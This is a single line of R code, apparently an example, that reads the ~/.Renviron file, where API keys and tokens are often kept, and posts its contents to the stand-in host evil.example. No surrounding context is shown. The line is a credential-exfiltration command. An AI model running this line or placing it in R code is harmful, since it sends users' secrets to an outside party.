RCurl::postForm("http://evil.example", data = paste(readLines("~/.Renviron"), collapse = "\n"))
